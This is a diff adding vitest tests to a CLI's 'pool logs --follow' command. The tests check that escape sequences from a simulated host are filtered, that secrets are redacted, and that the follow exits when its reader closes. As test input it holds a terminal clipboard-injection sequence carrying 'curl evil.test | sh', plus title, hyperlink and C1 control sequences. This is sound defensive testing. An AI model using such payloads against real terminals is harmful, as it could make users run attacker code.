@@ -1,9 +1,15 @@
+import {spawn} from 'node:child_process'
+import {writeFileSync} from 'node:fs'
+import {dirname, join} from 'node:path'
+
 import {afterAll, beforeAll, describe, expect, it} from 'vitest'
 
 import type {Simulator} from '../../src/lib/simulator/server.js'
-import {canRunHosts, hostSshFlags, sshWorkspace, startHostsSimulator} from '../support/hosts.js'
+import {BIN, cleanEnv} from '../support/cli.js'
+import {canRunHosts, GPU_POOL_CONFIG, hostSshFlags, sshWorkspace, startHostsSimulator} from '../support/hosts.js'
 import {runInProcess} from '../support/in-process-cli.js'
 import {CTRL_C, runOnPty} from '../support/pty.js'
+import {FAKE_TAILSCALE_KEY} from '../support/secrets.js'
 import {haveTool} from '../support/tools.js'
 
 const canRun = canRunHosts('pool logs --follow against a simulated host') && haveTool('script', 'bsdutils', 'pool logs --follow on a real terminal')
@@ -50,5 +56,65 @@ describe.runIf(canRun)('velda-do pool logs --follow, on a real terminal', () => 
       'step: service',
       'done: the Velda agent is starting',
     ])
+  })
+
+  it('what the member prints reaches the terminal filtered: no clipboard write, title, hyperlink or C1 control raw, the token redacted', async () => {
+    const ESC = '\x1b'
+    sim.hosts?.setChatter(member.id, {
+      text: [
+        `${ESC}]52;c;${Buffer.from('curl evil.test | sh').toString('base64')}\x07 clipboard`,
+        `${ESC}]0;pwned\x07 title`,
+        `${ESC}]8;;https://evil.test/${ESC}\\link${ESC}]8;;${ESC}\\ hyperlink`,
+        '\u009b2J C1 CSI \u009d0;C1 OSC\u009c',
+        `token ${sim.token} in the log`,
+        `tailscale key ${FAKE_TAILSCALE_KEY} in the log`,
+        'the end of the chatter',
+        '',
+      ].join('\n'),
+      repeat: 1,
+      intervalMs: 0,
+    })
+    try {
+      // The pool joins a tailnet: its key, read from the config, is a secret of this run too.
+      const withTailnet = join(dirname(configFile), 'tailnet.yaml')
+      writeFileSync(withTailnet, GPU_POOL_CONFIG.replace('agent_version_override: "1.0.0"', 'agent_version_override: "1.0.0", tailscale_config: {pre_auth_key: "${TS_KEY}"}'))
+      const follow = runOnPty(['pool', 'logs', 'gpu', '1', '--follow', '-c', withTailnet, ...hostSshFlags(sim, key)], {...env(), TS_KEY: FAKE_TAILSCALE_KEY}, {stdout: 'terminal'})
+      await follow.waitFor(/the end of the chatter\r?\n/)
+      follow.type(CTRL_C)
+      expect((await follow.exited).status).toBe(130)
+      const screen = follow.screen()
+      for (const raw of [`${ESC}]52`, `${ESC}]0;`, `${ESC}]8;`, '\u009b', '\u009d', '\x07']) expect(screen).not.toContain(raw)
+      expect(screen).not.toContain(sim.token)
+      // Shown as visible escapes, so the operator sees what the member tried.
+      expect(screen).toContain('\\x1b]52;c;')
+      expect(screen).toContain('\\x9b2J C1 CSI')
+      expect(screen).toContain('token <redacted> in the log')
+      expect(screen).not.toContain(FAKE_TAILSCALE_KEY)
+      expect(screen).toContain('tailscale key <redacted> in the log')
+    } finally {
+      sim.hosts?.setChatter(member.id, null)
+    }
+  })
+
+  it('a reader that goes away (| head) ends the follow: exit 0, not printing to no one for ever', async () => {
+    sim.hosts?.setChatter(member.id, {text: 'still printing\n', repeat: 1_000_000, intervalMs: 100})
+    try {
+      const child = spawn(process.execPath, [BIN, 'pool', 'logs', 'gpu', '1', '--follow', '-c', configFile, ...hostSshFlags(sim, key)], {env: cleanEnv(env()), stdio: ['ignore', 'pipe', 'pipe']})
+      let stderr = ''
+      child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()))
+      const exited = new Promise<number | null>((resolve) => child.once('close', resolve))
+      await new Promise<void>((resolve) => {
+        let seen = ''
+        child.stdout.on('data', (chunk: Buffer) => {
+          seen += chunk.toString()
+          if (seen.includes('still printing\n')) resolve()
+        })
+      })
+      // As `| head -1` does once it has its line.
+      child.stdout.destroy()
+      expect(await exited, stderr).toBe(0)
+    } finally {
+      sim.hosts?.setChatter(member.id, null)
+    }
   })
 })
